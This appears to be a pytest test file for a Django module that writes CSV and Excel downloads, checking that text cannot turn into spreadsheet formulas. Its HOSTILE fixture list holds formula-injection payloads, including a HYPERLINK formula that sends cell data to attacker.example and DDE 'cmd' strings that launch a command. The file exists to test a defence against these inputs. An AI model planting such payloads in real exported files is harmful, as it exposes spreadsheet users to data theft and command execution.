"""The one writer of downloadable tables (manifatture/tabular.py): text never
becomes a formula, numbers stay numbers."""

import csv
import io
from decimal import Decimal

import pytest
from django.utils.translation import gettext_lazy
from openpyxl import load_workbook

from manifatture import tabular

HOSTILE = [
    '=HYPERLINK("https://attacker.example/?d="&A1,"Apri")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def read_csv(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def read_xlsx(body: bytes):
    sheet = load_workbook(io.BytesIO(body)).active
    return sheet, [list(row) for row in sheet.iter_rows()]


@pytest.mark.parametrize("text", HOSTILE)
def test_text_a_spreadsheet_would_run_gets_an_apostrophe(text):
    assert tabular.neutralise(text) == "'" + text


@pytest.mark.parametrize("text", ["", "Officina", "a=b", " =1+1", "'già citato", "3-2", "#N/A"])
def test_other_text_is_left_as_written(text):
    assert tabular.neutralise(text) == text


def test_csv_quotes_text_and_keeps_numbers():
    text = tabular.csv_text(
        ["=titolo", "numero"],
        [
            [
                *HOSTILE,
                -3,
                Decimal("-1.5"),
                -0.25,
                7,
                None,
                True,
                False,
                "-3",
                'con "virgolette", e virgola',
            ],
        ],
    )
    header, row = read_csv(text)
    assert header == ["'=titolo", "numero"]
    assert row == [
        *("'" + value for value in HOSTILE),
        "-3",
        "-1.5",
        "-0.25",
        "7",
        "",
        "true",
        "false",
        "'-3",  # text that looks like a number is still text
        'con "virgolette", e virgola',
    ]
    assert text.endswith("\r\n")


def test_csv_neutralises_whatever_is_not_a_number():
    class Named:
        def __str__(self):
            return "=1+1"

    [row] = read_csv(tabular.csv_text([], [[Named(), gettext_lazy("+ lazy")]]))[1:]
    assert row == ["'=1+1", "'+ lazy"]


def test_xlsx_text_is_text_never_a_formula():
    body = tabular.xlsx_bytes(
        ["=titolo", "numero"],
        [[*HOSTILE, "#N/A", "\x01=1+1", -3, Decimal("66.7"), None, True, "Officina"]],
        sheet_title="sorteggio",
    )
    sheet, (header, row) = read_xlsx(body)
    assert sheet.title == "sorteggio"
    header = header[:2]  # openpyxl pads the header to the row's length
    assert [cell.value for cell in header] == ["'=titolo", "numero"]
    assert [cell.data_type for cell in header] == ["s", "s"]
    text_cells = row[: len(HOSTILE) + 2]
    assert [cell.value for cell in text_cells] == [
        *("'" + value for value in HOSTILE),
        "#N/A",
        "'=1+1",  # a control character openpyxl refuses is dropped first
    ]
    assert {cell.data_type for cell in text_cells} == {"s"}
    numbers = row[len(HOSTILE) + 2 :]
    assert [cell.value for cell in numbers] == [-3, 66.7, None, True, "Officina"]
    assert [cell.data_type for cell in numbers] == ["n", "n", "n", "b", "s"]


def test_xlsx_sheet_title_fits_the_format():
    sheet, _rows = read_xlsx(tabular.xlsx_bytes([], [], sheet_title="a/b:c" + "x" * 40))
    assert sheet.title == ("abc" + "x" * 40)[:31]


def test_responses_only_from_a_download_view(rf):
    with pytest.raises(RuntimeError):
        tabular.csv_response(["a"], [["=1"]], filename="x.csv")
    with pytest.raises(RuntimeError):
        tabular.xlsx_response(["a"], [["=1"]], filename="x.xlsx", sheet_title="x")

    @tabular.download
    def view(request, fmt):
        if fmt == "csv":
            return tabular.csv_response(["a"], [["=1"]], filename="x.csv", disposition="inline")
        return tabular.xlsx_response(["a"], [["=1"]], filename="x.xlsx", sheet_title="x")

    assert view.tabular_download is True
    response = view(rf.get("/"), "csv")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'inline; filename="x.csv"'
    assert response.content.decode() == "a\r\n'=1\r\n"
    response = view(rf.get("/"), "xlsx")
    assert response["Content-Type"] == tabular.XLSX_CONTENT_TYPE
    assert response["Content-Disposition"] == 'attachment; filename="x.xlsx"'
    _sheet, rows = read_xlsx(response.content)
    assert rows[1][0].value == "'=1"
    # and the mark does not outlive the view
    with pytest.raises(RuntimeError):
        tabular.csv_response(["a"], [], filename="x.csv")
